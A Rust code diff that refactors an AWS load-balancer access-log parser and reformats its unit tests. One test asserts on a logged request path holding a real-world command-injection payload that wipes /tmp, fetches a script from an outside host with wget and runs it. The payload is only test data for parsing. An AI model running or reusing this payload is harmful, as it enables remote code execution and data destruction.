@@ -30,9 +30,13 @@ pub(crate) fn is_alb_type(token: &[u8]) -> bool {
 }
 
 /// Parser for ALB access log lines (and Classic ELB lines). Stateless: one
-/// parser may read any number of lines.
+/// parser may read any number of lines. Make one with
+/// `AlbParser::default()`.
 #[derive(Debug, Default)]
-pub struct AlbParser;
+pub struct AlbParser {
+    /// Keeps the struct constructible only through `Default`.
+    _private: (),
+}
 
 impl LineParser for AlbParser {
     fn parse<'a>(&mut self, line: &'a [u8]) -> ParseResult<'a> {
@@ -322,7 +326,7 @@ mod tests {
     }
 
     fn parse(line: &[u8]) -> ParseResult<'_> {
-        AlbParser.parse(line)
+        AlbParser::default().parse(line)
     }
 
     fn hit(line: &str) -> Hit<'_> {
@@ -352,18 +356,42 @@ mod tests {
     /// (parsed, skipped, rejected) line counts.
     const EXPECTED: &[(&str, (usize, usize, usize))] = &[
         ("alb/awsdocs_examples_2023.log", (7, 0, 0)),
-        ("alb/dpetzold/classic_loadbalancer_http_entry.csv", (1, 0, 0)),
-        ("alb/dpetzold/loadbalancer_cloudfront_forward.csv", (1, 0, 0)),
-        ("alb/dpetzold/loadbalancer_cloudfront_forward_h2.csv", (1, 0, 0)),
-        ("alb/dpetzold/loadbalancer_cloudfront_forward_refused.csv", (1, 0, 0)),
+        (
+            "alb/dpetzold/classic_loadbalancer_http_entry.csv",
+            (1, 0, 0),
+        ),
+        (
+            "alb/dpetzold/loadbalancer_cloudfront_forward.csv",
+            (1, 0, 0),
+        ),
+        (
+            "alb/dpetzold/loadbalancer_cloudfront_forward_h2.csv",
+            (1, 0, 0),
+        ),
+        (
+            "alb/dpetzold/loadbalancer_cloudfront_forward_refused.csv",
+            (1, 0, 0),
+        ),
         ("alb/dpetzold/loadbalancer_http2_entry.csv", (1, 0, 0)),
-        ("alb/dpetzold/loadbalancer_http2_entry_auth_error.csv", (1, 0, 0)),
-        ("alb/dpetzold/loadbalancer_http2_entry_auth_missing.csv", (1, 0, 0)),
+        (
+            "alb/dpetzold/loadbalancer_http2_entry_auth_error.csv",
+            (1, 0, 0),
+        ),
+        (
+            "alb/dpetzold/loadbalancer_http2_entry_auth_missing.csv",
+            (1, 0, 0),
+        ),
         ("alb/dpetzold/loadbalancer_http_entry.csv", (1, 0, 0)),
         ("alb/dpetzold/loadbalancer_https_entry.csv", (1, 0, 0)),
         ("alb/dpetzold/loadbalancer_lambda_entry.csv", (1, 0, 0)),
-        ("alb/dpetzold/loadbalancer_lambda_failed_entry.csv", (1, 0, 0)),
-        ("alb/dpetzold/loadbalancer_secured_websockets_entry.csv", (1, 0, 0)),
+        (
+            "alb/dpetzold/loadbalancer_lambda_failed_entry.csv",
+            (1, 0, 0),
+        ),
+        (
+            "alb/dpetzold/loadbalancer_secured_websockets_entry.csv",
+            (1, 0, 0),
+        ),
         ("alb/dpetzold/loadbalancer_websockets_entry.csv", (1, 0, 0)),
         ("alb/elastic_alb_only.log", (3, 0, 0)),
         // 3 ALB lines, 4 NLB `tls` lines, 3 connection-log lines.
@@ -372,11 +400,17 @@ mod tests {
         ("alb/jdwit/sample.log", (5, 0, 0)),
         ("alb/real_excerpt_azul_pr4920_truncated.log", (1, 0, 0)),
         ("alb/synthesized/awsdocs_examples_2023.log.gz", (7, 0, 0)),
-        ("alb/synthesized/awsdocs_examples_2023_multimember.log.gz", (7, 0, 0)),
+        (
+            "alb/synthesized/awsdocs_examples_2023_multimember.log.gz",
+            (7, 0, 0),
+        ),
         ("alb/synthesized/current_33_fields.log", (1, 0, 0)),
         ("alb/synthesized/elb_502_no_target_status.log", (1, 0, 0)),
         // A good line, a blank line, a line cut inside the request.
-        ("alb/synthesized/file_with_blank_and_truncated_last_line.log", (1, 1, 1)),
+        (
+            "alb/synthesized/file_with_blank_and_truncated_last_line.log",
+            (1, 1, 1),
+        ),
         ("alb/synthesized/future_trailing_fields.log", (1, 0, 0)),
         ("alb/synthesized/ipv6_client_404.log", (1, 0, 0)),
         ("alb/synthesized/trailing_cr.log", (1, 0, 0)),
@@ -448,7 +482,10 @@ mod tests {
         assert_eq!(hits[3].user_agent, "-");
         // Lambda failed: 502, target status `-`.
         assert_eq!(hits[6].status, 502);
-        assert_eq!(hits[6].time_ms, parse_iso8601_ms(b"2018-11-30T22:23:00.186641Z").unwrap());
+        assert_eq!(
+            hits[6].time_ms,
+            parse_iso8601_ms(b"2018-11-30T22:23:00.186641Z").unwrap()
+        );
         let statuses: Vec<u16> = hits.iter().map(|h| h.status).collect();
         assert_eq!(statuses, [200, 200, 200, 101, 101, 200, 502]);
     }
@@ -478,7 +515,10 @@ mod tests {
     fn classic_elb() {
         let bytes = read("alb/dpetzold/classic_loadbalancer_http_entry.csv");
         let h = parse(lines(&bytes)[0]).unwrap().unwrap();
-        assert_eq!(h.time_ms, parse_iso8601_ms(b"2015-05-13T23:39:43.945Z").unwrap());
+        assert_eq!(
+            h.time_ms,
+            parse_iso8601_ms(b"2015-05-13T23:39:43.945Z").unwrap()
+        );
         assert_eq!(h.peer, ip("192.168.131.39"));
         assert_eq!(h.status, 200);
         assert_eq!(h.method, "GET");
@@ -529,9 +569,15 @@ mod tests {
         assert_eq!(h.method, "GET");
         assert_eq!(h.host, "127.0.0.1");
         // The space inside the URL stays in the path.
-        assert_eq!(h.path, "/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws");
+        assert_eq!(
+            h.path,
+            "/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
+        );
         assert_eq!(h.user_agent, "Hello, world");
-        assert_eq!(h.time_ms, parse_iso8601_ms(b"2022-05-12T06:41:29.051Z").unwrap());
+        assert_eq!(
+            h.time_ms,
+            parse_iso8601_ms(b"2022-05-12T06:41:29.051Z").unwrap()
+        );
         // `"- http://internal-service-alb.example.com:80-/ "`: still a hit.
         let h = parse(l[2]).unwrap().unwrap();
         assert_eq!(h.peer, ip("127.0.0.1"));
@@ -545,12 +591,24 @@ mod tests {
     #[test]
     fn malformed_and_binary_requests_count() {
         let base = DOC_HTTP.replace(" 200 200 ", " 400 - ");
-        let malformed = base.replace("GET http://www.example.com:80/ HTTP/1.1", "- http://www.example.com:80- -");
+        let malformed = base.replace(
+            "GET http://www.example.com:80/ HTTP/1.1",
+            "- http://www.example.com:80- -",
+        );
         let h = hit(&malformed);
-        assert_eq!((h.status, &*h.method, &*h.path, &*h.host), (400, "-", "-", "www.example.com"));
-        let binary = base.replace("GET http://www.example.com:80/ HTTP/1.1", "\\x16\\x03\\x01\\x00\\xF4\\x01");
+        assert_eq!(
+            (h.status, &*h.method, &*h.path, &*h.host),
+            (400, "-", "-", "www.example.com")
+        );
+        let binary = base.replace(
+            "GET http://www.example.com:80/ HTTP/1.1",
+            "\\x16\\x03\\x01\\x00\\xF4\\x01",
+        );
         let h = hit(&binary);
-        assert_eq!((h.status, &*h.method, &*h.path, &*h.host), (400, "-", "-", ""));
+        assert_eq!(
+            (h.status, &*h.method, &*h.path, &*h.host),
+            (400, "-", "-", "")
+        );
         let empty = base.replace("GET http://www.example.com:80/ HTTP/1.1", "");
         let h = hit(&empty);
         assert_eq!((h.status, &*h.method, &*h.path), (400, "-", "-"));
@@ -581,10 +639,16 @@ mod tests {
     fn quotes_inside_quoted_fields() {
         let bytes = read("alb/synthesized/ua_backslash_escaped_quote.log");
         let h = parse(lines(&bytes)[0]).unwrap().unwrap();
-        assert_eq!(h.user_agent, r#"Dalvik/2.1.0 (Linux; U; Android 5.1; Alba 10\" Build/LMY47I)"#);
+        assert_eq!(
+            h.user_agent,
+            r#"Dalvik/2.1.0 (Linux; U; Android 5.1; Alba 10\" Build/LMY47I)"#
+        );
         let bytes = read("alb/synthesized/ua_hex_escaped_quote.log");
         let h = parse(lines(&bytes)[0]).unwrap().unwrap();
-        assert_eq!(h.user_agent, r"Mozilla/5.0 (Linux; Android 5.1; Alba 10\x22 Build/LMY47I)");
+        assert_eq!(
+            h.user_agent,
+            r"Mozilla/5.0 (Linux; Android 5.1; Alba 10\x22 Build/LMY47I)"
+        );
         // The real line: `"` in the URL logged as `\x22`; cut after field 22.
         let bytes = read("alb/real_excerpt_azul_pr4920_truncated.log");
         let h = parse(lines(&bytes)[0]).unwrap().unwrap();
@@ -624,7 +688,14 @@ mod tests {
             let bytes = read(file);
             let h = parse(lines(&bytes)[0]).unwrap().unwrap();
             let want_status = if file.contains("502") { 502 } else { 200 };
-            assert_eq!(h, Hit { status: want_status, ..base.clone() }, "{file}");
+            assert_eq!(
+                h,
+                Hit {
+                    status: want_status,
+                    ..base.clone()
+                },
+                "{file}"
+            );
         }
         // 26 fields (dpetzold), 30 (vrl, jdwit): checked by their counts;
         // here the shortest line: fields 1–14 only.
@@ -655,7 +726,10 @@ mod tests {
             let line = DOC_HTTP
                 .replace(" 200 200 ", &format!(" {status} - "))
                 .replace("\"forward\"", &format!("\"{actions}\""));
-            let h = AlbParser.parse(line.as_bytes()).unwrap().unwrap();
+            let h = AlbParser::default()
+                .parse(line.as_bytes())
+                .unwrap()
+                .unwrap();
             h.blocked_by_waf
         };
         assert!(blocked("waf", "403"));
@@ -701,8 +775,16 @@ mod tests {
             // mode rejects: we parse it.
             let h = hit(line);
             let s = |k: &str| want[k].as_str();
-            assert_eq!(Some(h.peer), s("client_host").and_then(parse_ip_port), "{name}");
-            assert_eq!(h.status.to_string(), s("elb_status_code").unwrap(), "{name}");
+            assert_eq!(
+                Some(h.peer),
+                s("client_host").and_then(parse_ip_port),
+                "{name}"
+            );
+            assert_eq!(
+                h.status.to_string(),
+                s("elb_status_code").unwrap(),
+                "{name}"
+            );
             assert_eq!(
                 Some(h.time_ms),
                 parse_iso8601_ms(s("timestamp").unwrap().as_bytes()),
@@ -746,11 +828,26 @@ mod tests {
         }
         // The request is 3 tokens; cut after it, the user agent is missing.
         assert_eq!(err(&fields[..15].join(" ")).field, "user_agent");
-        assert_eq!(err(&DOC_HTTP.replace("2018-07-02T22:23:00.186641Z", "yesterday")).field, "time");
-        assert_eq!(err(&DOC_HTTP.replace("192.168.131.39:2817", "192.168.131.39")).field, "client:port");
-        assert_eq!(err(&DOC_HTTP.replace("192.168.131.39:2817", "-")).field, "client:port");
-        assert_eq!(err(&DOC_HTTP.replace(" 200 200 ", " OK 200 ")).field, "elb_status_code");
-        assert_eq!(err(&DOC_HTTP.replace(" 200 200 ", " 2000 200 ")).field, "elb_status_code");
+        assert_eq!(
+            err(&DOC_HTTP.replace("2018-07-02T22:23:00.186641Z", "yesterday")).field,
+            "time"
+        );
+        assert_eq!(
+            err(&DOC_HTTP.replace("192.168.131.39:2817", "192.168.131.39")).field,
+            "client:port"
+        );
+        assert_eq!(
+            err(&DOC_HTTP.replace("192.168.131.39:2817", "-")).field,
+            "client:port"
+        );
+        assert_eq!(
+            err(&DOC_HTTP.replace(" 200 200 ", " OK 200 ")).field,
+            "elb_status_code"
+        );
+        assert_eq!(
+            err(&DOC_HTTP.replace(" 200 200 ", " 2000 200 ")).field,
+            "elb_status_code"
+        );
         // Unterminated quotes name the field they are in.
         let e = err(&DOC_HTTP[..DOC_HTTP.find("curl").unwrap() + 3]);
         assert_eq!(e, ParseError::new("user_agent", "unterminated quote"));
@@ -759,7 +856,10 @@ mod tests {
         let e = err(&DOC_HTTP[..DOC_HTTP.find("\"forward").unwrap() + 4]);
         assert_eq!(e, ParseError::new("actions_executed", "unterminated quote"));
         // A backslash at the very end escapes nothing: still unterminated.
-        let e = err(&format!("{}\\", &DOC_HTTP[..DOC_HTTP.find("curl").unwrap()]));
+        let e = err(&format!(
+            "{}\\",
+            &DOC_HTTP[..DOC_HTTP.find("curl").unwrap()]
+        ));
         assert_eq!(e, ParseError::new("user_agent", "unterminated quote"));
     }
 
